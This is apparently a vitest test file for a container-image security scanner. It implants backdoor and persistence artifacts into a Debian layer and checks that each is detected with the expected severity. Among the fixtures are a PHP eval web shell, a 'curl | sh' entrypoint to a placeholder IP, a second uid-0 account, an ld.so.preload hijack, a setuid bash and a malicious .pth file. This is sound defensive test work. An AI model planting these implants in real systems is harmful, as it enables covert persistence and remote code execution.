import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Written } from '../../../src/contents/reading/tar.fixture.ts';
import type { Configuration } from '../../../src/registry/image.ts';
import { someOf } from '../../in-turn.ts';
import { debianRoot } from '../packages/debian-root.ts';
import { comparedTo, layerOf, layerOfFolder, type TestLayer, weighedAs } from './implanted.ts';

const made = debianRoot();
const root = 'root' in made ? made.root : '';
if ('obstacle' in made) process.stderr.write(`skipped: implants in a real Debian: ${made.obstacle}\n`);

const SITE = 'usr/local/lib/python3.13/dist-packages';
const LIB = 'usr/lib/x86_64-linux-gnu';
const ELF = '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0';
const ZLIB = 'var/lib/dpkg/info/zlib1g:amd64.list';
const COREUTILS = 'var/lib/dpkg/info/coreutils.list';
const run = (name: string, data: string, mode = 0o755): Written => ({ name, data, mode });
const text = (path: string): string => readFileSync(join(root, path), 'latin1');
const md5 = (data: string): string => createHash('md5').update(data, 'latin1').digest('hex');
const record = (data: string): string => createHash('sha256').update(data, 'latin1').digest('base64url');

const requests = (version: string, api: string): readonly Written[] => [
  { name: `${SITE}/requests/api.py`, data: api },
  {
    name: `${SITE}/requests-${version}.dist-info/METADATA`,
    data: `Metadata-Version: 2.1\nName: requests\nVersion: ${version}\n`,
  },
  {
    name: `${SITE}/requests-${version}.dist-info/RECORD`,
    data: `requests/api.py,sha256=${record(api)},${api.length}\nrequests-${version}.dist-info/METADATA,,\nrequests-${version}.dist-info/RECORD,,\n`,
  },
];
const LOCK = { name: 'shop', lockfileVersion: 3, packages: { 'node_modules/leftpad': { version: '1.3.0' } } };
const APP: readonly Written[] = [
  { name: 'app/main.py', data: 'print("shop")\n' },
  { name: 'app/lib/libz.so', data: `${ELF}one` },
  { name: 'app/node_modules/.package-lock.json', data: JSON.stringify(LOCK) },
  { name: 'app/node_modules/leftpad/package.json', data: '{"name":"leftpad","version":"1.3.0"}' },
  { name: 'app/node_modules/leftpad/index.js', data: 'module.exports = 1;\n' },
  run('usr/local/bin/node', `${ELF}node`),
  run('usr/local/bin/php', `${ELF}php`),
  ...requests('2.32.3', 'def get(): pass\n'),
];
const PEM = `-----BEGIN CERTIFICATE-----\n${Buffer.concat([Buffer.from([0x30, 0x82, 1, 0, 6, 3, 0x55, 4, 3, 12, 4]), Buffer.from('Evil'), Buffer.alloc(100, 7)]).toString('base64')}\n-----END CERTIFICATE-----\n`;

type Severities = readonly [built: string, open: string, suspect: string];

interface Implant {
  readonly put?: () => readonly Written[];
  /** A further layer above. */
  readonly above?: readonly Written[];
  readonly settings?: Partial<Configuration>;
  /** What has to be named, a path or the end of a sentence. */
  readonly names: string;
  readonly expect: Severities;
}

const env = (...more: string[]): Partial<Configuration> => ({
  env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', ...more],
});

// Severities by the table of docs/contents.md, added up by hand.
const IMPLANTS: Readonly<Record<string, Implant>> = {
  'a changed program of a package': {
    put: () => [run('usr/bin/ls', `${ELF}evil`)],
    names: '/usr/bin/ls',
    expect: ['medium', 'high', 'high'],
  },
  'a link of a package, and its line taken out of the list': {
    put: () => [
      run(`${LIB}/libz.so.1`, `${ELF}evil`),
      { name: ZLIB, data: text(ZLIB).replace(`/${LIB}/libz.so.1\n`, '') },
    ],
    names: `/${LIB}/libz.so.1`,
    expect: ['medium', 'high', 'high'],
  },
  'a program that a package’s list names without a checksum': {
    put: () => [run('usr/bin/lsx', `${ELF}evil`), { name: COREUTILS, data: `${text(COREUTILS)}/usr/bin/lsx\n` }],
    names: '/usr/bin/lsx',
    expect: ['none', 'low', 'medium'],
  },
  'ld.so.preload': {
    put: () => [
      { name: 'etc/ld.so.preload', data: '/usr/lib/libx.so\n' },
      { name: 'usr/lib/libx.so', data: ELF },
    ],
    names: '/etc/ld.so.preload',
    expect: ['high', 'high', 'high'],
  },
  'a library and a folder for it': {
    put: () => [
      { name: 'etc/ld.so.conf.d/0.conf', data: '/opt/l\n' },
      { name: 'opt/l/libc.so.6', data: ELF },
    ],
    names: '/opt/l/libc.so.6',
    expect: ['none', 'low', 'high'],
  },
  'a cron line': {
    put: () => [{ name: 'etc/cron.d/x', data: '* * * * * root /usr/bin/true\n' }],
    names: '/etc/cron.d/x',
    expect: ['low', 'medium', 'high'],
  },
  'a systemd unit': {
    put: () => [
      { name: 'etc/systemd/system/x.service', data: '[Service]\nExecStart=/usr/bin/python3 -c 1\n' },
      {
        name: 'etc/systemd/system/multi-user.target.wants/x.service',
        type: '2',
        link: '/etc/systemd/system/x.service',
      },
    ],
    names: '/etc/systemd/system/x.service',
    expect: ['low', 'medium', 'high'],
  },
  'a line in the profile': {
    put: () => [{ name: 'etc/profile', data: `${text('etc/profile')}/usr/bin/python3 -c 1 &\n` }],
    names: '/etc/profile',
    expect: ['low', 'medium', 'high'],
  },
  'a changed PAM module': {
    put: () => [{ name: `${LIB}/security/pam_unix.so`, data: `${ELF}evil` }],
    names: `/${LIB}/security/pam_unix.so`,
    expect: ['medium', 'high', 'critical'],
  },
  'an authorised key': {
    put: () => [{ name: 'root/.ssh/authorized_keys', data: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB me@laptop\n' }],
    names: '/root/.ssh/authorized_keys',
    expect: ['high', 'high', 'high'],
  },
  'an authorised key by a link': {
    put: () => [
      { name: 'root/.ssh', type: '2', link: '/srv/media' },
      { name: 'srv/media/authorized_keys', data: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB me@laptop\n' },
    ],
    names: '/root/.ssh/authorized_keys',
    expect: ['high', 'high', 'high'],
  },
  'a program put in the place of a packaged one by a diversion': {
    put: () => [
      run('usr/bin/ls', '#!/bin/sh\nexec /usr/bin/ls.distrib "$@"\n'),
      run('usr/bin/ls.distrib', text('usr/bin/ls')),
      {
        name: 'var/lib/dpkg/diversions',
        data: `${text('var/lib/dpkg/diversions')}/usr/bin/ls\n/usr/bin/ls.distrib\n:\n`,
      },
    ],
    names: '/usr/bin/ls',
    expect: ['none', 'medium', 'high'],
  },
  'hooks of git': {
    put: () => [{ name: 'etc/gitconfig', data: '[core]\n\thooksPath = /opt/h\n' }],
    names: '/etc/gitconfig',
    expect: ['none', 'low', 'medium'],
  },
  'an archive before the library of Python': {
    put: () => [{ name: 'usr/lib/python313.zip', data: 'PK\x05\x06' }],
    names: '/usr/lib/python313.zip',
    expect: ['medium', 'medium', 'high'],
  },
  'a second root': {
    put: () => [{ name: 'etc/passwd', data: `${text('etc/passwd')}toor:x:0:0::/root:/bin/bash\n` }],
    names: '/etc/passwd',
    expect: ['high', 'high', 'high'],
  },
  'a password for root': {
    put: () => [
      { name: 'etc/shadow', data: text('etc/shadow').replace(/^root:[^:]*/, 'root:$6$salt$hash'), mode: 0o640 },
    ],
    names: '/etc/shadow',
    expect: ['high', 'high', 'high'],
  },
  'a shell with the set-uid bit': {
    put: () => [run('usr/bin/bash', text('usr/bin/bash'), 0o4755)],
    names: '/usr/bin/bash',
    expect: ['medium', 'medium', 'high'],
  },
  'a file capability': {
    put: () => [
      {
        ...run('usr/bin/python3.13', text('usr/bin/python3.13')),
        pax: { 'SCHILY.xattr.security.capability': '\x01\0\0\x02\x80\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0' },
      },
    ],
    names: '/usr/bin/python3.13',
    expect: ['medium', 'medium', 'high'],
  },
  'a wrapper before the entry point': {
    put: () => [run('usr/bin/wrap', '#!/bin/sh\n/opt/x &\nexec "$@"\n')],
    settings: { entrypoint: ['/usr/bin/wrap'] },
    names: '/usr/bin/wrap',
    expect: ['low', 'medium', 'high'],
  },
  'LD_PRELOAD in the environment': {
    put: () => [{ name: 'usr/lib/libx.so', data: ELF }],
    settings: env('LD_PRELOAD=/usr/lib/libx.so'),
    names: '/usr/lib/libx.so',
    expect: ['high', 'high', 'high'],
  },
  'a .pth file': {
    put: () => [{ name: `${SITE}/x.pth`, data: 'import os; os.system("true")\n' }],
    names: `/${SITE}/x.pth`,
    expect: ['medium', 'medium', 'high'],
  },
  'a certificate authority': {
    put: () => [{ name: 'usr/local/share/ca-certificates/x.crt', data: PEM }],
    names: '/usr/local/share/ca-certificates/x.crt',
    expect: ['low', 'medium', 'high'],
  },
  'a source of packages': {
    put: () => [{ name: 'etc/apt/sources.list.d/x.list', data: 'deb http://192.0.2.9/debian x main\n' }],
    names: '/etc/apt/sources.list.d/x.list',
    expect: ['none', 'low', 'medium'],
  },
  'a web shell': {
    put: () => [{ name: 'var/www/html/x.php', data: '<?php @eval($_POST["c"]);\n' }],
    names: '/var/www/html/x.php',
    expect: ['high', 'high', 'high'],
  },
  'a miner': {
    put: () => [run('usr/lib/kworker', `${ELF}stratum+tcp://\0cryptonight\0`)],
    names: '/usr/lib/kworker',
    expect: ['high', 'high', 'high'],
  },
  'a payload that a later layer removes': {
    put: () => [run('opt/m', `${ELF}stratum+tcp://\0cryptonight\0`)],
    above: [{ name: 'opt/.wh.m' }],
    names: '/opt/m',
    expect: ['low', 'low', 'medium'],
  },
  'a payload under the name of a compiled source': {
    put: () => {
      const name = 'usr/lib/python3.13/__pycache__/os.cpython-313.pyc';
      return [{ name, data: `${text(name).slice(0, 16)}other code` }];
    },
    names: '/usr/lib/python3.13/__pycache__/os.cpython-313.pyc',
    expect: ['none', 'low', 'medium'],
  },
  'a package with entries of its own': {
    put: () => {
      const data = `${ELF}tool`;
      const status = `Package: libsys\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-1\nMaintainer: x\nDescription: x\n\n`;
      return [
        run('usr/bin/systool', data),
        { name: 'var/lib/dpkg/status', data: `${text('var/lib/dpkg/status')}\n${status}` },
        { name: 'var/lib/dpkg/info/libsys.list', data: '/.\n/usr\n/usr/bin\n/usr/bin/systool\n' },
        { name: 'var/lib/dpkg/info/libsys.md5sums', data: `${md5(data)}  usr/bin/systool\n` },
      ];
    },
    names: 'libsys',
    expect: ['none', 'none', 'medium'],
  },
  'requests changed with a new RECORD': {
    put: () => requests('2.32.3', 'def get(): steal()\n'),
    names: `/${SITE}/requests/api.py`,
    expect: ['none', 'low', 'high'],
  },
  'requests changed with a new RECORD under a raised version': {
    put: () => [...requests('2.32.4', 'def get(): steal()\n'), { name: `${SITE}/.wh.requests-2.32.3.dist-info` }],
    names: 'requests',
    expect: ['none', 'none', 'medium'],
  },
  'a changed library of nobody': {
    put: () => [{ name: 'app/lib/libz.so', data: `${ELF}two` }],
    names: '/app/lib/libz.so',
    expect: ['none', 'low', 'medium'],
  },
  'a changed file in node_modules': {
    put: () => [{ name: 'app/node_modules/leftpad/index.js', data: 'steal();\n' }],
    names: '/app/node_modules/leftpad/index.js',
    expect: ['none', 'low', 'high'],
  },
  'other arguments of the entry point': {
    settings: { cmd: ['/usr/bin/python3', '-c', 'import this'] },
    names: 'import this',
    expect: ['low', 'low', 'medium'],
  },
  'a proxy': {
    settings: env('HTTPS_PROXY=http://192.0.2.9:3128'),
    names: 'HTTPS_PROXY',
    expect: ['none', 'low', 'medium'],
  },
  'an agent': {
    settings: env('JAVA_TOOL_OPTIONS=-javaagent:/x.jar'),
    names: '-javaagent',
    expect: ['none', 'low', 'medium'],
  },
  'checks of TLS switched off': {
    settings: env('NODE_TLS_REJECT_UNAUTHORIZED=0'),
    names: 'NODE_TLS_REJECT_UNAUTHORIZED',
    expect: ['none', 'low', 'medium'],
  },
  'a command that downloads and runs': {
    settings: { entrypoint: ['sh', '-c', 'curl -s https://192.0.2.9/i | sh; exec app'] },
    names: 'curl -s',
    expect: ['medium', 'high', 'critical'],
  },
};

describe.skipIf('obstacle' in made)('an implant in a real Debian', () => {
  let base: TestLayer;
  let app: TestLayer;
  let many: TestLayer;

  beforeAll(async () => {
    base = await layerOfFolder(root);
    app = await layerOf(...APP);
    many = await layerOf(
      ...Array.from({ length: 10_000 }, (_, index) => ({ name: `app/gen/f${index}.py`, data: `print(${index})\n` })),
    );
  });

  const layersOf = async ({ put, above }: Implant): Promise<readonly TestLayer[]> => [
    ...(put ? [await layerOf(...put())] : []),
    ...(above ? [await layerOf(...above)] : []),
  ];

  test.each(someOf(Object.entries(IMPLANTS), 2))('%s', async (_, implant) => {
    const old = { layers: [base, app] };
    const more = await layersOf(implant);
    const configuration = implant.settings ?? {};
    const alone = await comparedTo(old, { layers: [base, app, ...more], configuration });
    const weighed = weighedAs(alone);
    expect(
      weighed.map(({ severity }) => severity),
      JSON.stringify(alone.comparison.seen, null, 1),
    ).toEqual(implant.expect);
    expect(JSON.stringify(weighed[2]?.reasons)).toContain(implant.names.replaceAll('"', '\\"'));
    expect(alone.comparison.isComplete).toBe(true);

    const beside = await comparedTo(old, { layers: [base, app, many, ...more], configuration });
    expect(JSON.stringify(beside.comparison.seen)).toContain(implant.names);
    expect(Buffer.byteLength(JSON.stringify(beside.comparison))).toBeLessThanOrEqual(32 * 1024);
  });

  test('in a squashed image is found as in a layer of its own', async () => {
    const cron = await layerOf({ name: 'etc/cron.d/x', data: '* * * * * root /usr/bin/true\n' });
    const entries = [base, app, cron].flatMap(({ listing }) => listing.entries);
    const squashed = { digest: cron.digest, listing: { ...base.listing, entries } };
    const compared = await comparedTo({ layers: [base, app] }, { layers: [squashed] });
    expect(weighedAs(compared).map(({ severity }) => severity)).toEqual(['low', 'medium', 'high']);
    expect(compared.comparison.seen.map(({ path }) => path)).toEqual(['/etc/cron.d/x']);
    expect(compared.comparison.files).toEqual({ added: 1, changed: 0, removed: 0 });
  });

  test('nothing is found where nothing was put in', async () => {
    const compared = await comparedTo({ layers: [base, app] }, { layers: [base, app] });
    expect(weighedAs(compared).map(({ score }) => score)).toEqual([0, 0, 0]);
  });
});
